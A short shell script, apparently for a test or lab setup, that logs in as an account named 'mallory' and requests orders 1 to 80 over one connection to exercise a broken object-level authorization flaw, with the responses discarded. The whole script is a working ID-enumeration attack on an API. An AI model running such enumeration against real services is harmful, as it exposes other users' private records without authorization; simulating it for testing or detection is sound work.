# An id walker: logs in as mallory (a real account) and reads orders 1..80 in sequence over one
# keep-alive connection; the app does not check the owner (BOLA).
set -u
ip=${CLIENT_IPS%% *}
token=$(curl -s --interface "$ip" -H "Content-Type: application/json" \
  -d '{"username": "mallory", "password": "evil-but-valid"}' "http://$SERVER/api/login" |
  python3 -c 'import json, sys; print(json.load(sys.stdin)["token"])')
urls=()
for i in $(seq 1 80); do urls+=("http://$SERVER/api/orders/$i"); done
curl -s --interface "$ip" -H "Authorization: Bearer $token" "${urls[@]}" >/dev/null
